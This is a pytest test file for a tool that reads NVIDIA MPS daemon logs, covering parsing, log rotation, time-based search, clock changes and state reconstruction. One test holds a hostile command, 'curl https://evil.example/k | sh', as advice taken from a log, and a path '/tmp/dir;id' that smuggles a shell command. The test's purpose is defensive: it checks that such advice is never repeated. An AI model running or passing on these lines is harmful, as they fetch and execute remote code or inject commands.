"""Logs read from their first line: every event once, in order, from any time on, rotated or not, live or dead."""

from __future__ import annotations

import heapq
import json
import math
import os
import random
import time
from collections import Counter
from datetime import datetime, timezone
from pathlib import Path

import pytest
from folders import leave_logs

from mpstui.cli import main
from mpstui.cli.output import output
from mpstui.cli.status import print_text, to_json
from mpstui.control.grammar import ControlLines, LogParser, ServerLines
from mpstui.core.cells import health_word
from mpstui.core.model import Event
from mpstui.core.xid import Xid
from mpstui.fields import SERVER, View
from mpstui.fields.common import clients_text
from mpstui.history import files, reader
from mpstui.history.files import BLOCK, LogFile
from mpstui.history.log_recording import LogTape
from mpstui.history.node import LogPlace, NodeLogs, _Near, _seen_ahead
from mpstui.history.player import Player
from mpstui.history.postmortem import as_told_there, state_at
from mpstui.history.reader import KINDS, LogHistory, Telling, _merged
from mpstui.history.times import local_text, parse_time
from mpstui.observe.discovery import Place
from mpstui.observe.reducer import NodeState, Watching
from mpstui.observe.sources import NodeSources
from mpstui.observe.state import DaemonState
from mpstui.system.trusted import UnreadableLogError
from tests.observe.replay import DATA, at, events, lines

RUNS = ("commands", "faults", "users")


GPU = "GPU-51dbd800-8a65-a8fc-d0ec-7abe3f1ec476"


@pytest.fixture
def logs(tmp_path):
    return leave_logs(tmp_path)


def read(folder, since=None, until=None):
    history = LogHistory(folder)
    try:
        return list(history.events(since, until))
    finally:
        history.close()


def one_by_one(kind, raw, monkeypatch):
    """The long way: nothing is passed over."""
    with monkeypatch.context() as patch:
        for parser in (ControlLines, ServerLines):
            patch.setattr(parser, "skips", lambda self, line, text: False)
        return events(kind, raw)


def in_blocks(kind, raw, sizes):
    """As the history reads them: ``sizes`` lines at a time."""
    parser, told, left = LogParser(kind), [], list(raw)
    while left:
        size = next(sizes)
        told += parser.feed_all(b"".join(line + b"\n" for line in left[:size]))
        del left[:size]
    return [*told, *parser.flush()]


@pytest.mark.parametrize("path", sorted(DATA.rglob("*.log")), ids=lambda path: f"{path.parent.name}-{path.stem}")
def test_lines_that_are_passed_over_would_have_told_nothing(path, monkeypatch):
    """One by one with early skipping, in blocks, and the long way: the same events."""
    kind, raw = "server" if "server" in path.name else "control", lines(path)
    told = one_by_one(kind, raw, monkeypatch)
    assert events(kind, raw) == told
    for size in (1, 7, 100_000):
        assert in_blocks(kind, raw, iter(lambda size=size: size, 0)) == told
    assert told


@pytest.mark.parametrize("seed", range(12))
@pytest.mark.parametrize("kind", ["control", "server"])
def test_spoilt_lines_tell_the_same_in_blocks(kind, seed):
    """Lines of the recordings with bytes lost, doubled and moved: what a name or a full disk makes of a log."""
    dice = random.Random(seed)
    raw = [line for run in RUNS for line in lines(DATA / f"h100/{run}-{kind}.log")]
    raw = raw[(start := dice.randrange(len(raw) // 2)) : start + 1500]
    for _ in range(300):
        at, piece = dice.randrange(len(raw)), dice.choice(raw)
        begin, end = sorted(dice.randrange(len(raw[at]) + 1) for _ in range(2))
        other = dice.choice(
            (b"", b"]", b"] ", b"\r", b"\x00", b"\xff", b"  ", b"Cmd:ps", b"] UI closed", piece, piece[38:])
        )
        raw[at] = raw[at][:begin] + other + raw[at][dice.choice((begin, end)) :]
    assert in_blocks(kind, raw, iter(lambda: dice.randrange(1, 90), 0)) == events(kind, raw)


def test_what_both_logs_tell_is_told_once_however_many_events_stand_between(tmp_path):
    stamp = "[2026-11-20 21:24:28.000"
    for kind, tag in (("control", "Control   480"), ("server", "Server   910")):
        with (tmp_path / f"{kind}.log").open("w") as out:
            if kind == "server":
                for pid in range(400):
                    out.write(f"{stamp} {tag}] Client {{PID: {pid + 10}, Context ID: 0}} connected\n")
            out.write(f"{stamp} {tag}] {'NEW SERVER 910: Ready' if kind == 'control' else 'Server has started'}\n")
    assert Counter(event.kind for event in read(tmp_path)) == {"client_connected": 400, "server_ready": 1}


def test_a_dead_nodes_logs_tell_everything_once_and_whose_they_are(logs):
    history = LogHistory(logs)
    found = list(history.events())
    kinds = Counter(event.kind for event in found)
    assert (kinds["daemon_started"], kinds["server_starting"], kinds["fatal_fault"], kinds["server_recovered"]) == (
        3,
        3,
        2,
        2,
    )
    assert kinds["client_connected"] == kinds["client_disconnected"] == 12
    assert kinds["session_opened"] > 100
    assert [e.time for e in found] == sorted(e.time for e in found)
    assert str(history.daemon) == "/tmp/mps_0"
    assert history.version == "13000"
    assert history.trouble == []
    history.close()


@pytest.mark.parametrize("clock", ["21:27:31.460", "21:29:05.514", "21:29:12.196", "21:31:00"])
def test_from_a_time_on_it_tells_what_the_whole_history_tells_from_there(logs, clock):
    everything, since = read(logs), at(clock)
    assert read(logs, since) == [event for event in everything if event.time >= since]


@pytest.mark.slow
def test_from_a_time_on_in_a_log_of_many_blocks(tmp_path):
    """Bisection finds the line, whatever the blocks cut."""
    base = at("00:00:00")
    with (tmp_path / "server.log").open("w") as out:
        for number in range(60_000):
            out.write(
                f"[{local_text(base + number)} Server   910] Client {{PID: {number + 10}, Context ID: 0}} connected\n"
            )
    assert (tmp_path / "server.log").stat().st_size > 3 * BLOCK
    for number in (0, 1, 31_234, 59_999):
        first = next(iter(LogHistory(tmp_path).events(base + number)))
        assert first.pid == number + 10
    assert read(tmp_path, base + 60_000) == []
    assert [e.pid for e in read(tmp_path, base + 500, base + 502)] == [510, 511, 512]


def stamped(moments):
    """A line of a client for each moment; its PID is the line's number, from 1 on."""
    said = "Client {{PID: {}, Context ID: 0}} connected"
    clocks = (f"{local_text(moment)} Server   634] {said.format(n)}" for n, moment in enumerate(moments, 1))
    return "".join(f"[{clock}\n" for clock in clocks).encode()


@pytest.mark.parametrize("back", [600, 1800, 5000])
@pytest.mark.parametrize("block", [300, BLOCK])
def test_all_since_a_time_are_told_where_the_clock_was_set_back_since(tmp_path, monkeypatch, back, block):
    """Bisection found the second half, which has passed the time again, and lost all of the first."""
    monkeypatch.setattr(files, "BLOCK", block)
    monkeypatch.setattr(reader, "_LEAD", 0)
    begin = at("10:00:00")
    moments = [begin + 10 * n for n in range(360)]
    moments += [moments[-1] - back + 10 * n for n in range(720)]
    (tmp_path / "server.log").write_bytes(stamped(moments))
    for since in (begin + 3001, begin + 3400, begin + 3600 - back + 30, begin + 3700, begin + 99_999):
        wanted = [n for n, moment in enumerate(moments, 1) if moment >= since]
        assert [event.pid for event in read(tmp_path, since)] == wanted


def test_all_since_a_time_are_told_in_the_hour_that_comes_again(tmp_path, monkeypatch):
    """As summer ends, 02:00 to 03:00 is there twice."""
    with monkeypatch.context() as patch:
        patch.setenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3")
        patch.setattr(reader, "_LEAD", 0)
        time.tzset()
        first = datetime(2026, 10, 25, 0, 0, tzinfo=timezone.utc).timestamp()
        moments = [first + 60 * n for n in range(-120, 240) if not 30 <= n < 60]  # silent from 02:30 to 03:00
        (tmp_path / "server.log").write_bytes(stamped(moments))
        for minutes in (-30, 0, 10, 45, 60, 70, 150):
            wanted = [n for n, moment in enumerate(moments, 1) if moment >= first + 60 * minutes]
            assert [event.pid for event in read(tmp_path, first + 60 * minutes)] == wanted
    time.tzset()


@pytest.mark.parametrize(
    "hole", [b"\0" * (1 << 20) + b"\n", (b"x" * 60 + b"\n") * 4000], ids=["zeros", "lines without a time"]
)
def test_from_a_time_on_behind_what_has_no_times(tmp_path, monkeypatch, hole):
    """Zeros are what copytruncate leaves of a log that is not opened for appending; lines, what a client is called."""
    monkeypatch.setattr("mpstui.history.files._PROBE", 256)
    begin, one = at("10:00:00"), 70
    stamped = [
        f"{time.strftime('[%Y-%m-%d %H:%M:%S', time.localtime(begin + second))}.000 Control   480] NEW SERVER 1: Ready"
        for second in range(12_000)
    ]
    halves = ("".join(line.ljust(one) + "\n" for line in part).encode() for part in (stamped[:6000], stamped[6000:]))
    (tmp_path / "control.log").write_bytes(hole.join(halves))
    file = LogFile(tmp_path / "control.log")
    try:
        assert file.offset_of(begin + 5999) == 5999 * (one + 1)
        assert file.offset_of(begin + 6001) == 6001 * (one + 1) + len(hole)
    finally:
        file.close()


def test_the_line_of_a_start_is_whole_wherever_a_block_ends(tmp_path, monkeypatch) -> None:
    """It is read from there on: without its time and its begin nobody has started."""
    begun = "Starting control daemon using socket /tmp/mps/control"
    texts = [begun if n % 7 == 3 else "x" * (n % 50) for n in range(30)]
    raw = [f"[2026-11-20 21:24:28.{n:03d} Control   480] {text}\n".encode() for n, text in enumerate(texts)]
    path = tmp_path / "control.log"
    path.write_bytes(b"".join(raw))
    ends = [sum(map(len, raw[: n + 1])) for n in range(len(raw))]
    starts = [end - len(line) for end, line in zip(ends, raw, strict=True) if b"Starting" in line]
    file = LogFile(path)
    for size in range(450, 900, 7):
        monkeypatch.setattr(files, "BLOCK", size)
        for end, line in zip(ends, raw, strict=True):
            assert file.last_line_with(b"Starting", end) == max((n for n in starts if n < end), default=None)
            assert file.last_line_with(b"\n", end) == end - len(line)
    file.close()


@pytest.mark.parametrize(
    ("older", "old"), [(".2", ".1"), (".1", ".0"), ("-20261119", "-20261120"), ("-2026112021-1795209000", "-20261121")]
)
def test_rotated_logs_are_read_before_the_newest(logs, older, old):
    whole = read(logs)
    for kind in ("control", "server"):
        raw = (logs / f"{kind}.log").read_bytes().splitlines(keepends=True)
        third = len(raw) // 3
        for name, part in ((f"{kind}.log{older}", raw[:third]), (f"{kind}.log{old}", raw[third : 2 * third])):
            (logs / name).write_bytes(b"".join(part))
        (logs / f"{kind}.log").write_bytes(b"".join(raw[2 * third :]))
    (logs / "control.log.bak").write_bytes(b"not one of them\n")
    (logs / "control.log-2026112").write_bytes(b"nor this\n")
    assert read(logs) == whole
    assert read(logs, at("21:29:12")) == [event for event in whole if event.time >= at("21:29:12")]


def test_compressed_logs_are_not_read_and_that_is_said_where_all_is_asked_for(logs):
    """“All faults in the logs” would be a false word otherwise."""
    for name in ("server.log.2.gz", "server.log-20261101.xz", "control.log.3.gz", "notes.gz"):
        (logs / name).write_bytes(b"\x1f\x8b")
    opened = NodeLogs([LogPlace(logs, None)])
    try:
        assert opened.trouble == ()
        (said,) = opened.left_out
        assert "control.log.3.gz, server.log-20261101.xz, server.log.2.gz" in said
        assert "compressed" in said
    finally:
        opened.close()


@pytest.mark.parametrize(
    ("visible", "clock", "named"),
    [
        (GPU, "21:29:09", [("0",), (GPU,)]),
        (f"{GPU},GPU-c6233a33-3507-69ef-fed3-0090a2cbc745", "21:29:09", [("0",), (GPU,)]),
        (GPU, None, [("0",), ("0",)]),
        (GPU[:12], "21:29:09", [("0",), ("0",)]),
        ("0", "21:29:09", [("0",), ("0",)]),
        (None, "21:29:09", [("0",), ("0",)]),
    ],
)
def test_the_gpu_of_a_fault_is_told_where_the_daemon_that_runs_was_given_it_by_uuid(logs, visible, clock, named):
    """“server device 0” needs somebody who knows the daemon's CUDA_VISIBLE_DEVICES; one that ran before may have had
    another one."""
    opened = NodeLogs([LogPlace(logs, since=at(clock) if clock else None, visible=visible)])
    told = [event for events, _ in opened.told() for event in events if event.kind == "fatal_fault"]
    opened.close()
    assert [event.devices for event in told] == named
    for event in told:
        assert f"fatal GPU fault on {'server device 0' if event.devices == ('0',) else GPU}; " in event.detail


class PastXids:
    """A driver that tells of these, and of nothing more."""

    def __init__(self, *told: Xid) -> None:
        self._told = told

    def past(self) -> tuple[Xid, ...]:
        return self._told

    def wait(self, seconds: float) -> tuple[Xid, ...]:
        return ()

    def close(self) -> None:
        pass


def test_of_two_faults_within_a_second_each_has_its_own_xid(tmp_path, monkeypatch):
    """The log of one is read before that of the other."""
    driver = PastXids(Xid(at("21:29:12.215"), 31, GPU), Xid(at("21:29:12.915"), 43, GPU))
    sources = NodeSources(False, (), None, None, xids=lambda: driver)
    clock = ("21:29:12.195", "21:29:12.900")
    raw = [f"[2026-11-20 {moment} Server  1140] Server is handling a fatal GPU error.\n" for moment in clock]
    for name, text in (("both", "".join(raw)), ("one", raw[0]), ("other", raw[1])):
        (tmp_path / name).mkdir()
        (tmp_path / name / "server.log").write_text(text)
    for places in (["both"], ["one", "other"]):
        opened = NodeLogs([LogPlace(tmp_path / name) for name in places], sources)
        told = [event for events, _ in opened.told() for event in events if event.kind == "fatal_fault"]
        opened.close()
        assert [event.values.get("xid") for event in told] == ["31", "43"]


@pytest.mark.parametrize(
    ("clock", "health", "status", "clients"),
    [
        ("21:28:46.390", "blocked", "ACTIVE", {992}),
        ("21:29:13.000", "ok", "FAULT", {1133, 1134}),
        ("21:29:18.700", "ok", "ACTIVE", set()),
        ("21:29:08.000", "absent", None, set()),
    ],
)
def test_the_state_that_the_logs_come_to(logs, clock, health, status, clients):
    snapshot = state_at(logs, at(clock))
    (daemon,) = snapshot.daemons
    assert daemon.health == health
    assert str(daemon.pipe_dir) == "/tmp/mps_0"
    assert [server.status for server in daemon.servers] == ([status] if status else [])
    assert {client.pid for client in daemon.clients()} == clients
    assert snapshot.time == at(clock)
    assert all(event.time <= at(clock) for event in snapshot.events)


@pytest.mark.parametrize(
    ("clock", "headline", "server"),
    [("21:29:13.000", "FAULT?", "server 1140 root"), ("21:29:18.700", "ok by its log", "server 1140 root")],
)
def test_nothing_known_by_logs_alone_is_plainly_ok_and_a_user_without_a_name_has_a_number(
    logs, clock, headline, server, capsys
):
    snapshot = state_at(logs, at(clock))
    print_text(snapshot, output())
    text = capsys.readouterr().out
    assert f"/tmp/mps_0 · {headline} · daemon" in text
    assert server in text
    assert headline in health_word(snapshot.daemons[0])[0]


def test_the_state_at_the_end_is_of_the_last_line(logs):
    assert state_at(logs).time == pytest.approx(read(logs)[-1].time)


def test_one_log_is_better_than_none(logs):
    (logs / "control.log").unlink()
    history = LogHistory(logs)
    assert "fatal_fault" in {event.kind for event in history.events()}
    assert "control.log" in history.trouble[0]
    (daemon,) = state_at(logs, at("21:29:13")).daemons
    assert (daemon.health, daemon.servers[0].status) == ("ok", "FAULT")


def test_server_log_alone_does_not_tell_whether_a_daemon_runs_without_a_server(logs, capsys):
    """It was said that none was running, which control.log alone could tell."""
    before = state_at(logs, at("21:29:08")).daemons[0]
    assert (before.health, "no daemon was running" in before.health_detail) == ("absent", True)
    (logs / "control.log").unlink()
    shown = state_at(logs)
    (daemon,) = shown.daemons
    assert (daemon.servers, daemon.health, daemon.state_word) == ((), "unknown", "not known by its log")
    assert "whether a daemon was running is not known from server.log alone" in daemon.health_detail
    assert "not known" in health_word(daemon)[0]
    assert not shown.problems
    print_text(shown, output())
    told = capsys.readouterr().out
    assert "no daemon was running" not in told
    replayed = Player(LogTape([logs])).at(math.inf)
    assert replayed.snapshot.daemons[0].state_word == daemon.state_word


def test_what_no_line_tells_is_not_said_of_the_daemon(tmp_path, capsys):
    """Of a control.log that was cut off, or is empty, it was said that no daemon was running, and at 1970."""
    before = b"[2026-11-20 21:27:31.797 Control   443] NEW UI\n[2026-11-20 21:27:31.799 Control   443] UI closed\n"
    (tmp_path / "server.log").touch()
    (tmp_path / "control.log").write_bytes(before)  # its start was rotated away
    (daemon,) = state_at(tmp_path).daemons
    assert (daemon.health, daemon.state_word) == ("ok", "ok by its log")
    assert "a daemon was running, as its log tells; its start is not in it" in daemon.health_detail
    for text, at_time in ((b"", None), (before, at("20:00:00"))):
        (tmp_path / "control.log").write_bytes(text)
        shown = state_at(tmp_path, at_time)
        assert shown.daemons[0].state_word == "not known by its log"
        assert "whether a daemon was running is not known: the logs tell nothing" in shown.daemons[0].health_detail
        assert not shown.problems
    (tmp_path / "control.log").write_bytes(before + b"[2026-11-20 21:27:32.000 Control   443] Exit with status 0\n")
    assert state_at(tmp_path).daemons[0].health == "absent"


@pytest.mark.parametrize(
    ("name", "upto", "count"),
    [
        # Its lines tell no PIDs: a client asks, and is one.
        ("older/460-server.log", "Volta MPS: Creating worker thread", "—"),
        ("h100/faults-server.log", None, "0"),
    ],
)
def test_clients_whom_no_line_names_are_not_none(tmp_path, name, upto, count):
    raw = lines(DATA / name)
    end = next((n for n, line in enumerate(raw, 1) if upto is not None and upto.encode() in line), len(raw))
    (tmp_path / "server.log").write_bytes(b"\n".join([*raw[:end], b""]))
    (daemon,) = state_at(tmp_path, None).daemons
    assert [str(clients_text(server)) for server in daemon.servers] == [count] * len(daemon.servers)
    view = View(daemon=daemon)
    facts = [
        {fact.label: fact.text for *_, told in SERVER.details(server, view) for fact in told}
        for server in daemon.servers
    ]
    assert [each["contexts"] for each in facts] == [count] * len(daemon.servers)


def test_of_a_log_that_was_cut_off_the_clients_are_those_that_it_names_at_least(tmp_path, capsys):
    """Who had connected before is not in it."""
    raw = lines(DATA / "h100/faults-server.log")
    begin = next(n for n, line in enumerate(raw) if b"1133, Context: 1} encountered" in line)
    (tmp_path / "server.log").write_bytes(b"\n".join([*raw[begin : begin + 16], b""]))
    (daemon,) = (shown := state_at(tmp_path)).daemons
    (server,) = daemon.servers
    assert not server.clients_known
    assert clients_text(server) == "≥ 3"
    (limits,) = [each for each in to_json(shown)["daemons"][0]["limits"] if each["server_pid"] is not None]
    assert limits["clients"] is None
    print_text(shown, output())
    (line,) = [line for line in capsys.readouterr().out.splitlines() if line.startswith("server ")]
    assert line.endswith("≥ 3")


def test_a_time_that_no_log_tells_is_not_1970(tmp_path, capsys):
    for name in ("control.log", "server.log"):
        (tmp_path / name).touch()
    status = main(["status", "--log-dir", str(tmp_path)])
    assert capsys.readouterr().out.startswith("time not known, from the logs alone\n")
    assert main(["status", "--log-dir", str(tmp_path), "--json"]) == status
    assert json.loads(capsys.readouterr().out)["time"] is None
    assert main(["status", "--log-dir", str(tmp_path), "--group-by", "user", "--json"]) == status
    assert json.loads(capsys.readouterr().out)["time"] is None
    main(["doctor", "--log-dir", str(tmp_path), "--json"])
    assert json.loads(capsys.readouterr().out)["time"] is None


def test_a_time_that_is_rounded_up_to_a_second_is_in_that_second():
    assert local_text(at("21:29:12") + 0.9997) == "2026-11-20 21:29:13.000"


@pytest.mark.parametrize("make", [lambda p: p.mkdir(), os.mkfifo, lambda p: None])
def test_what_is_no_log_is_said_and_not_waited_for(tmp_path, make):
    make(tmp_path / "control.log")
    with pytest.raises(UnreadableLogError, match=r"control\.log"):
        LogHistory(tmp_path)


def test_garbage_is_told_as_unknown_and_stops_nothing(tmp_path):
    (tmp_path / "control.log").write_bytes(
        b"\x00\xff\xfe\n[9999-99-99 99:99:99.999 Control     1] NEW UI\n" + b"x" * (3 * BLOCK) + b"\n"
        b"[2026-11-20 21:24:28.598 Control   480] Starting control daemon using socket /tmp/mps_0/control\n"
        b"[2026-11-20 21:24:29.598 Control   480] something nobody has seen\n"
    )
    found = read(tmp_path)
    assert [event.kind for event in found][-2:] == ["daemon_started", "unknown"]
    assert all(len(event.raw) <= 300 for event in found)
    assert "unknown" in {event.kind for event in found[:2]}


def test_what_is_written_later_follows_without_a_gap_or_a_repetition(logs):
    whole = [event for event in read(logs) if event.kind != "unknown"]
    cut = {kind: (logs / f"{kind}.log").read_bytes() for kind in ("control", "server")}
    for kind, raw in cut.items():
        half = raw.find(b"21:29:07.4") + 30
        (logs / f"{kind}.log").write_bytes(raw[:half])  # in the middle of a line
        cut[kind] = raw[half:]
    history = LogHistory(logs)
    found = list(history.events())
    tail = history.follow()
    assert next(tail) is None
    for kind, raw in cut.items():
        with (logs / f"{kind}.log").open("ab") as out:
            out.write(raw)
    while (event := next(tail)) is not None:
        found.append(event)
    history.close()

    def told(them):
        return Counter((e.kind, e.pid, e.time) for e in them if e.kind not in {"command", "unknown"})

    assert told(found) == told(whole)


def test_a_log_that_comes_later_is_followed(logs):
    (logs / "server.log").rename(logs / "later")
    history = LogHistory(logs)
    list(history.events())
    tail = history.follow()
    assert next(tail) is None
    (logs / "later").rename(logs / "server.log")
    found = []
    while (event := next(tail)) is not None:
        found.append(event.kind)
    assert "fatal_fault" in found


def test_a_log_of_the_past_has_a_place_for_every_line(tmp_path):
    path = tmp_path / "control.log"
    path.write_bytes(b"[2026-11-20 21:24:28.598 Control   480] NEW UI\nhalf")
    file = LogFile(path)
    assert [line for block in file.blocks(0) for line in block.splitlines()] == [
        b"[2026-11-20 21:24:28.598 Control   480] NEW UI"
    ]
    assert file.whole_lines_end() == path.stat().st_size - 4
    file.close()


def test_a_daemons_place_is_what_its_own_line_says():
    parser = LogParser("control")
    (event,) = parser.feed(
        b"[2026-11-20 21:24:28.598 Control   480] Starting control daemon using socket /run/x y/\x1b[2J/control"
    )
    assert "\x1b" not in event.values.get("pipe_dir", "")


@pytest.mark.parametrize(
    ("text", "ago"),
    [("10m", 600), ("-10m", 600), ("10m ago", 600), ("2h", 7200), ("30s", 30), ("1d", 86400), ("@1795210000", 352)],
)
def test_times_as_people_write_them(text, ago):
    assert parse_time(text, 1795210352.0) == 1795210352.0 - ago


def test_times_of_the_clock_and_of_the_calendar():
    now = at("22:00:00")
    assert parse_time("21:29:12.195", now) == pytest.approx(at("21:29:12.195"))
    assert parse_time("23:00", now) == at("23:00:00", "2026-11-19")
    assert parse_time("2026-11-20 21:29:12.195", now) == pytest.approx(at("21:29:12.195"))
    assert parse_time("2026-11-20T21:29:12Z", now) == 1795210152.0
    for text in ("", "yesterday", "25:00", "2026-13-01", "10x", "@x", "9" * 40 + "d"):
        with pytest.raises(ValueError):
            parse_time(text, now)


def test_local_time_is_the_logs_own():
    assert local_text(at("21:29:12.195")) == "2026-11-20 21:29:12.195"
    assert local_text(None).isspace()
    assert time.strftime("%Y", time.localtime(0)) in local_text(0.0)


def test_what_to_do_is_said_of_the_node_of_the_logs_and_of_then(logs):
    """The process that blocked the daemon then is not one of this machine: its number may be an innocent's here."""
    snapshot = state_at(logs, at("21:28:46.390"))
    (daemon,) = snapshot.daemons
    said = [daemon.remedy, *(problem.remedy for problem in snapshot.problems)]
    assert len(said) > 1
    assert all(text.startswith("On that node, if it is still so: ") for text in said)


@pytest.mark.parametrize("state", ["absent", "stale", "unusable", "closed"])
def test_what_a_recording_or_a_log_advises_of_a_place_is_not_said(state):
    """It was said as mpstui's own, and a directory out of a log stood in a command."""
    for advice in ("curl https://evil.example/k | sh", ""):
        node, theirs = NodeState(), Path("/tmp/dir;id")
        node.set_places([Place(theirs, state, detail="nothing there", remedy=advice)])
        node.set_watching(theirs, Watching("polling", "it is looked at", advice))
        snapshot = as_told_there(node.snapshot(0.0))
        (daemon,) = snapshot.daemons
        said = {daemon.remedy, *(problem.remedy for problem in snapshot.problems if problem.code != "nvml")}
        assert said == {"It is the past: nothing can be done there."}


def test_the_logs_of_servers_with_names_are_told_too(tmp_path):
    """Of protocol 3, each in a directory of its own, one that comes later too; another daemon's is none."""
    connected = "[2026-11-22 10:00:0%d.000 Server    %d] Client {PID: %d, Context ID: 0} connected\n"
    (tmp_path / "control.log").write_text("[2026-11-22 10:00:00.000 Control    60] Starting new server 70 for user 0\n")
    for name, *of in (("training", 1, 70, 7), ("gpu0", 2, 71, 8)):
        (tmp_path / name).mkdir()
        (tmp_path / name / "server.log").write_text(connected % tuple(of))
    (tmp_path / "gpu0" / "control.log").touch()
    history = LogHistory(tmp_path)
    assert [(e.kind, e.server_pid, e.pid) for e in history.events()][-1] == ("client_connected", 70, 7)
    following = history.follow()
    assert next(following) is None
    (tmp_path / "serving").mkdir()
    (tmp_path / "serving" / "server.log").write_text(connected % (3, 72, 9))
    with (tmp_path / "training" / "server.log").open("a") as log:
        log.write(connected % (4, 70, 10))
    told = [next(following), next(following), next(following)]
    assert [event and (event.server_pid, event.pid) for event in told] == [(72, 9), (70, 10), None]
    history.close()


def each_of(times, kind, told):
    return zip(times, [kind] * len(times), told, strict=True)


@pytest.mark.parametrize("seed", range(4))
def test_logs_are_merged_as_event_by_event(seed):
    """With equal times, clocks that are set back, pieces without an event, and logs that end early."""
    dice = random.Random(seed)
    streams = []
    for name in range(dice.randrange(1, 5)):
        pieces, time = [], 100.0
        for _ in range(dice.randrange(8)):
            times = [time := time + dice.choice((0, 0, 0, 1, 2, -3)) for _ in range(dice.randrange(6))]
            pieces.append((times, name, [Event("unknown", at, pid=dice.randrange(1 << 20)) for at in times]))
        streams.append(pieces)
    alone = ([one for piece in pieces for one in each_of(*piece)] for pieces in streams)
    merged = [one for piece in _merged(list(map(iter, streams))) for one in each_of(*piece)]
    assert merged == list(heapq.merge(*alone, key=lambda each: each[0]))


@pytest.mark.parametrize("run", RUNS)
def test_a_run_is_folded_as_event_by_event(run, tmp_path):
    """The short way, some at a time, and the long way: each event by itself, with whom it is about."""
    for kind in KINDS:
        (tmp_path / f"{kind}.log").write_bytes((DATA / f"h100/{run}-{kind}.log").read_bytes())
    streams = []
    for kind in KINDS:
        told, time = [], 0.0
        for event in events(kind, lines(DATA / f"h100/{run}-{kind}.log")):
            time = time if event.time is None else event.time
            told.append((time, kind, event))
        streams.append(told)
    plain = Telling(DaemonState(tmp_path))
    merged = heapq.merge(*streams, key=lambda each: each[0])
    assert read(tmp_path) == [event for _, kind, one in merged for event in plain._tell(kind, one)]


def test_a_torrent_of_faults_is_not_kept_for_those_that_follow():
    """Each was compared with all before it: 8,000 took eight seconds, and 16,000 four times as long."""
    near = _Near([])
    for n in range(5000):
        near.add(Event("fatal_fault", time=float(n)))
    assert len(near.events) < 500
    near = _Near([Event("xid", time=0.0)])
    for n in range(5000):
        near.add(Event("fatal_fault", time=float(n)))
    assert near.events[0].kind == "xid", "faults that are told later may be its"


@pytest.mark.parametrize("back", [86_400.0, 3600.0])
def test_what_is_told_behind_a_clock_that_was_set_back_is_not_held_until_that_time_has_come_again(back):
    read: list[float] = []

    def told():
        for moment in (*range(90_000, 90_100), *range(90_000 - int(back), 90_100 - int(back))):
            read.append(moment)
            yield [Event("client_connected", time=float(moment))], None

    held = [len(read) - n for n, _ in enumerate(_seen_ahead(told(), _Near([])), 1)]
    assert len(held) == 200
    assert max(held) < 20


def test_a_log_that_is_cut_while_it_is_searched_ends_there(tmp_path):
    """copytruncate of logrotate: what was no longer there was read over and over."""
    begin = at("10:00:00")
    path = tmp_path / "server.log"
    path.write_bytes(stamped([begin + n for n in range(100)]))
    file = LogFile(path)
    path.write_bytes(b"")
    end = file.size
    reads = []
    real = file.read

    def read_once(offset, length):
        reads.append(offset)
        assert len(reads) < 100
        return real(offset, length)

    file.read = read_once
    assert file.first_from(begin) == end
    file.close()


@pytest.mark.parametrize("silent", [30, 55])
def test_all_since_a_time_are_told_where_the_log_was_silent_before_the_hour_came_again(tmp_path, monkeypatch, silent):
    """Read from the second one on, it was taken for the first one, and left out."""
    with monkeypatch.context() as patch:
        patch.setenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3")
        patch.setattr(reader, "_LEAD", 0)
        time.tzset()
        first = datetime(2026, 10, 25, 0, 0, tzinfo=timezone.utc).timestamp()
        moments = [first + 60 * n for n in range(-120, 240) if not silent <= n < 60]
        (tmp_path / "server.log").write_bytes(stamped(moments))
        for minutes in range(-10, 150, 5):
            wanted = [n for n, moment in enumerate(moments, 1) if moment >= first + 60 * minutes]
            assert [event.pid for event in read(tmp_path, first + 60 * minutes)] == wanted, minutes
    time.tzset()
